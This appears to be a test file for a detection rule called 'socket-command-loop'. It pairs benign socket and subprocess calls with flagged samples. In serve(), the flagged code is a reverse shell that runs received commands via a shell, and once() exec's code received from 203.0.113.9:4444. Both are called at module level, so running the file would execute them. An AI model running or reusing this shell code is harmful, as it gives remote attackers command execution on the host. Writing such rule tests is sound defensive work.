import socket
import subprocess


def health(host: str) -> bytes:
    with socket.create_connection((host, 5432)) as s:
        s.sendall(b"ping")
        # ok: socket-command-loop
        return s.recv(16)


def listing() -> str:
    # ok: socket-command-loop
    return subprocess.getoutput("ls /srv")


def serve(host: str, port: int) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.connect((host, port))
        while True:
            command = s.recv(1024).decode()
            if command == "exit":
                break
            # ruleid: socket-command-loop
            output = subprocess.run(command, shell=True, capture_output=True).stdout
            s.sendall(output)


def once() -> None:
    s = socket.create_connection(("203.0.113.9", 4444))
    # ruleid: socket-command-loop
    exec(s.recv(65536))


print(health("db.internal"), listing())
serve("203.0.113.9", 4444)
once()
